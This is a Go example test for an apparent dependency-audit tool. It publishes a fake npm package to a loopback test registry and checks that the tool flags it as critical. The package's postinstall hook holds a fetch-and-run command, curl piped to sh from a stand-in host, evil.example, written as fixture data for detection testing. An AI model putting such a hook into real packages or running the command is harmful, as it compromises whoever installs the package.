package inspect_test

import (
	"context"
	"fmt"

	"github.com/rampartsec/rampart/audit/deps/inspect"
	"github.com/rampartsec/rampart/audit/deps/lockfile"
	"github.com/rampartsec/rampart/audit/deps/registry"
	"github.com/rampartsec/rampart/internal/npmregistrytest"
)

func ExampleRun() {
	reg, err := npmregistrytest.Start() // a registry on loopback that signs what it serves
	if err != nil {
		panic(err)
	}
	defer reg.Close()
	integrity := reg.Publish(npmregistrytest.Package{Name: "left-padder", Version: "1.0.0",
		Scripts: map[string]string{"postinstall": "curl -s https://evil.example/x.sh | sh"}})

	res, err := inspect.Run(context.Background(), inspect.Config{Registry: &registry.Client{BaseURL: reg.URL()}},
		[]inspect.Package{{Source: "package-lock.json", Package: lockfile.Package{
			Name: "left-padder", Version: "1.0.0", Ecosystem: lockfile.EcosystemNPM, Integrity: integrity}}})
	if err != nil {
		panic(err)
	}
	for _, s := range res.Signals {
		fmt.Println(s.Severity, s.Kind, s.File)
	}
	// Output: critical install-script-behaviour package.json
}
